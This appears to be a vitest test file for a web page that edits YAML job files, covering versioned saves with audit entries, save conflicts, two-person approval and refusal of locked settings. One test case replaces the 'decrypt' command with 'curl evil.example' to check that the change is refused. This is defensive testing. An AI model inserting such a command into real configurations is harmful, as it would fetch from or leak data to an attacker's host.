import { chmod, mkdir, readFile, rename, stat, symlink, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { expect, test } from 'vitest';
import { readChain } from '../../../src/engine/ledger/audit.ts';
import { trialWords } from '../../../src/faces/page/job-trial.ts';
import type { Visitor } from '../../../src/model/ask.ts';
import { parseEntry } from '../../../src/model/audit.ts';
import { ownFolder } from '../../support/folder.ts';
import { useOwnRedis } from '../../support/redis.ts';
import { until } from '../../support/until.ts';
import { look, OPERATOR, openOwnPage, textOf as tagless, VIEWER } from './own-page.ts';

const own = useOwnRedis();
const textOf = (html: string) => tagless(html).replaceAll('&#39;', "'");
const BEA = { name: 'bea', role: 'operator' } as const;

const JOB = `# By Ada
operation: subclient.create
key: Ref
decrypt: cat
guard: { accounts: warn }
fields:
  details.name: Short # the name
ignore: [ Legal ]
`;

/** A page over a jobs folder with `partner.yaml`. No file of the job was loaded: there is nothing to try a change on. */
async function openJobs(text = JOB) {
  const folder = join(await ownFolder(), 'jobs');
  await mkdir(folder);
  const file = join(folder, 'partner.yaml');
  await writeFile(file, text);
  const { page } = await openOwnPage(own(), { ONBOARD_JOBS: folder });
  const get = (path: string, visitor: Visitor = OPERATOR) => look(page, path, { visitor });
  const post = (path: string, form: Record<string, string>, visitor: Visitor = OPERATOR) =>
    look(page, path, { method: 'POST', form, visitor });
  const base = async () =>
    /name="base" value="(\w+)"/.exec((await get('/jobs/partner/change')).html)?.[1] ?? '';
  /** Where the change is looked at, once it was tried. */
  const tried = async (form: Record<string, string>, visitor: Visitor = OPERATOR) => {
    const { reply, html } = await post('/jobs/partner/change', { base: await base(), ...form }, visitor);
    const place = reply.kind === 'redirect' ? reply.to : textOf(html);
    if (reply.kind === 'redirect')
      await until(async () => !(await get(place)).html.includes('Trying it since'));
    return place;
  };
  const acts = async () => {
    const { redis, of } = page.ledger;
    const found: unknown[] = [];
    for await (const texts of readChain(redis, of(page.service.target).keys))
      for (const entry of texts.flatMap((one) => parseEntry(one) ?? []))
        found.push([entry.actor, entry.what, entry.of.version, entry.of.why]);
    return found;
  };
  return { page, file, get, post, tried, base, acts };
}

test('a change by the form is looked at, and saved as a version with who, when and why', async () => {
  const { page, file, get, post, tried, acts } = await openJobs();
  const place = await tried({ as: 'form', 'column/details.name': 'Legal', ignore: 'Short' });
  expect(place).toMatch(/^\/jobs\/partner\/drafts\/\w+$/);
  const changed = JOB.replace('details.name: Short', 'details.name: Legal').replace('[ Legal ]', '[ Short ]');
  const shown = textOf((await get(place)).html);
  expect(shown).toContain('fields.details.name"Short""Legal"');
  expect(shown).toContain('nothing to try it on');
  expect(await readFile(file, 'utf8')).toBe(JOB);

  expect(textOf((await post(place, { why: ' ' })).html)).toContain('Say why');
  expect(textOf((await post(place, { why: 'the long name' })).html)).toContain(
    'Version 2 of partner is saved',
  );
  expect(await readFile(file, 'utf8')).toBe(changed);
  const history = join(page.env.home, 'jobs-history', 'partner', '000002.json');
  expect((await stat(history)).mode & 0o777).toBe(0o600);
  expect(await acts()).toEqual([['ops-1', 'job-changed', '2', 'the long name']]);

  const job = textOf((await get('/jobs/partner', VIEWER)).html);
  expect(job).toMatch(/2in use, .* UTC, ops-1: the long name1not in use, .*as it stood in the jobs folder/);
  const former = await get('/jobs/partner/versions/1', VIEWER);
  expect(textOf(former.html)).toContain('details.name: Short # the name');
  expect(former.html).not.toContain('Take this text up again');
  expect((await get('/jobs/partner/change?version=1')).html).toContain('details.name: Short # the name');
});

test('of two who save at once the second is refused, with what differs', async () => {
  const { file, post, tried, acts } = await openJobs();
  const [first, second] = [
    await tried({ as: 'text', text: JOB.replace('Short # the name', 'Name') }),
    await tried({ as: 'text', text: JOB.replace('key: Ref', 'key: Id') }, BEA),
  ];
  const answers = await Promise.all([post(first, { why: 'one' }), post(second, { why: 'other' }, BEA)]);
  const kinds = answers.map(({ kind }) => kind).sort();
  expect(kinds).toEqual(['page', 'redirect']);
  expect(await acts()).toHaveLength(1);
  const saved = await readFile(file, 'utf8');
  const isFirst = answers[0]?.kind === 'redirect';
  const late = await post(isFirst ? second : first, { why: 'again' }, isFirst ? BEA : OPERATOR);
  const words = textOf(late.html);
  expect(words).toContain(`was changed since you opened it by ${isFirst ? 'ops-1' : 'bea'}`);
  expect(words).toContain(isFirst ? 'key is "Ref" by now, and "Id" in yours' : 'key is "Id" by now');
  expect(await readFile(file, 'utf8')).toBe(saved);

  const stale = await post('/jobs/partner/change', { base: 'x', as: 'text', text: JOB });
  expect(textOf(stale.html)).toContain('The job was changed since you opened it');
});

test.each([
  ['decrypt', JOB.replace('cat', 'curl evil.example')],
  ['decrypt', JOB.replace('decrypt: cat\n', '')],
  ['guard', JOB.replace('warn', 'off')],
  ['unusual', `${JOB}unusual: off\n`],
  ['approval', `${JOB}approval: required\n`],
  ['checks', `${JOB}checks: { accounts: off }\n`],
  ['files', `${JOB}files: "*"\n`],
  ['inbox', `${JOB}inbox: /srv/others\n`],
  [
    'request',
    `${JOB.replace('subclient.create', 'custom')}request: { method: GET, path: /v1/x }\nfields: {}\n`,
  ],
  ['operation', JOB.replace('subclient.create', 'subclient.upsert')],
  ['send.notExecuted', `${JOB}send: { notExecuted: [503] }\n`],
])('a text in which %s differs is refused, at the page and by the process that acts', async (name, text) => {
  const { page, file, post, base, acts } = await openJobs();
  const opened = await base();
  const words = textOf((await post('/jobs/partner/change', { base: opened, as: 'text', text })).html);
  const ask = { kind: 'change-job', job: 'partner', base: opened, text, why: 'w' } as const;
  const answer = await page.ask?.(ask, OPERATOR);
  expect(answer?.kind).toBe('refused');
  if (name !== 'request') {
    expect(words).toContain(`${name}: the page can't change this`);
    expect(answer).toMatchObject({
      problems: [expect.stringContaining(`${name}: the page can't change this`)],
    });
  }
  expect([await readFile(file, 'utf8'), await acts()]).toEqual([JOB, []]);
});

test('locked settings are shown, and viewers change nothing', async () => {
  const { page, file, get, base } = await openJobs();
  const shown = textOf((await get('/jobs/partner/change')).html);
  expect(shown).toContain('decryptcat');
  expect(shown).toContain('guard{"accounts":"warn"}');
  expect((await get('/jobs/partner', VIEWER)).html).not.toContain('/change');
  const text = JOB.replace('Ref', 'Id');
  const ask = { kind: 'change-job', job: 'partner', base: await base(), text, why: 'w' } as const;
  expect(await page.ask?.(ask, VIEWER)).toMatchObject({ kind: 'refused' });
  expect(await readFile(file, 'utf8')).toBe(JOB);
});

test('where the job asks for approval, a version is used once another person has confirmed it', async () => {
  const dual = `${JOB}approval: required\n`;
  const { file, get, post, tried, acts } = await openJobs(dual);
  const text = dual.replace('key: Ref', 'key: Id');
  const byLink = await tried({ as: 'text', text }, { name: 'eva (by link)', role: 'operator' });
  const asAnybody = await post(byLink, { why: 'w' }, { name: 'eva (by link)', role: 'operator' });
  expect(textOf(asAnybody.html)).toContain('a person with a token of their own');
  expect(textOf((await post(await tried({ as: 'text', text }), { why: 'ids' })).html)).toContain(
    'Version 2 of partner waits',
  );
  expect(await readFile(file, 'utf8')).toBe(dual);
  expect(textOf((await get('/jobs/partner')).html)).toContain('waits for another person');

  const confirm = async (visitor: Visitor) => {
    const { reply } = await post('/jobs/partner/versions/2', {}, visitor);
    const place = reply.kind === 'redirect' ? reply.to : '';
    await until(async () => (await get(place)).html.includes('Confirm it'));
    return textOf((await post(place, {}, visitor)).html);
  };
  expect(await confirm({ ...OPERATOR, name: 'OPS-1' })).toContain("can't confirm it");
  expect(await confirm(BEA)).toContain('Version 2 of partner is used from now on');
  expect(await readFile(file, 'utf8')).toBe(text);
  expect(textOf((await get('/jobs/partner/versions/2')).html)).toContain('in use, ');
  expect(textOf((await get('/jobs/partner/versions/2')).html)).toContain('(confirmed by bea)');
  expect(await acts()).toEqual([
    ['ops-1', 'job-proposed', '2', 'ids'],
    ['bea', 'job-changed', '2', 'ids'],
  ]);
});

test.each([
  ['read-only', async (file: string) => chmod(file, 0o444)],
  [
    'a link',
    async (file: string) => {
      await writeFile(`${file}.there`, JOB);
      await symlink(`${file}.there`, `${file}.link`);
      await rename(`${file}.link`, file);
    },
  ],
])('a job whose file is %s is not written: the changed file is there to be downloaded', async (_, make) => {
  const { page, file, get, post, tried, base, acts } = await openJobs();
  await make(file);
  const text = JOB.replace('key: Ref', 'key: Id');
  const place = await tried({ as: 'text', text });
  const { html } = await get(place);
  expect(html).not.toContain('Save it');
  expect(html).toContain(`href="${place}/file"`);
  expect((await get(`${place}/file`)).reply).toMatchObject({
    kind: 'download',
    name: 'partner.yaml',
    body: text,
  });
  expect(textOf((await post(place, { why: 'w' })).html)).toContain('expected a file and a folder');
  expect([await readFile(file, 'utf8'), await acts()]).toEqual([JOB, []]);
  expect(await base()).not.toBe('');
  expect(page.ask).not.toBeNull();
});

const counts = { refused: { rows: 0, examples: [] }, differ: { rows: 0, fields: [] }, same: 11 };

test('what a change would have made of the deliveries is said in one sentence, the worst first', () => {
  const keys = { rows: 3, fields: [{ field: '(key)', rows: 2 }] };
  const refused = { rows: 1, examples: [{ row: 4, why: 'expected a value' }] };
  const said = trialWords([
    { run: 'a', invalid: 30, pass: { rows: 14 }, ...counts, differ: keys },
    { run: 'b', invalid: 2, pass: { rows: 0 }, ...counts, refused },
    { run: 'c', invalid: 7, why: 'its file is gone' },
  ]);
  expect(said).toEqual({
    isAny: true,
    bad: [
      '2 records would have another key: nothing would know them by it, and they would be made again',
      '1 row that went would be invalid',
    ],
    said: [
      '14 of 32 invalid rows would have passed',
      '3 that stand at the service would be sent differently',
      '22 as they stand there',
    ],
  });
});
